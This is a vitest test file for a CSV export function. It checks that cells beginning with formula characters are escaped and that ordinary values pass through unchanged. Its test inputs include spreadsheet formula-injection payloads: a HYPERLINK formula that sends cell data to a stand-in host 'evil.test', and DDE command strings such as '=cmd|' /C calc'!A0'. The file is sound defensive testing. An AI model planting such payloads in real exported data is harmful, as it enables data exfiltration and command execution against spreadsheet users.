import { expect, test } from 'vitest'
import { formatCsv } from '@vitrine/domain/csv.ts'

test.each([
  '=1+2',
  '=HYPERLINK("https://evil.test?x="&A1,"Read")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '-1-1',
  '@SUM(1+1)*cmd|x',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '  =1+2',
  '＝1+2',
  '＋1',
  '－1',
  '＠x',
  '-',
  '+49 30 123456',
])('escapes %j', (text) => {
  const cell = formatCsv([[text]])
  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
  expect(cell.endsWith('\r\n')).toBe(true)
})

test.each(['-12.50', '0', '12', '-3', 'Mug', 'a=b', '1-2', 'x@y.test'])('writes %j unchanged', (text) => {
  expect(formatCsv([[text]])).toBe(`${text}\r\n`)
})

test('quotes separators and line breaks within a cell', () => {
  const nasty = 'a",=1+2\r\n=1+2'
  expect(formatCsv([[nasty, ';=1']])).toBe(`"a"",=1+2\r\n=1+2",";=1"\r\n`)
})
